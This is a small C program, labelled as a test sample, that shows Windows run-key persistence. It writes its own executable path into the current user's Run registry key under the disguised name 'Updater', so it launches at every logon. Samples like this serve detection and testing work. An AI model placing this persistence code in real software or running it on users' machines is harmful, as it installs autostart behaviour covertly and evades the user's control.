/* Run-key persistence. Never run: test sample. */
#include <windows.h>
int main(void) {
    HKEY key;
    char path[MAX_PATH];
    GetModuleFileNameA(NULL, path, sizeof path);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE, &key) != ERROR_SUCCESS) return 1;
    RegSetValueExA(key, "Updater", 0, REG_SZ, (const BYTE *)path, lstrlenA(path) + 1);
    RegCloseKey(key);
    return 0;
}
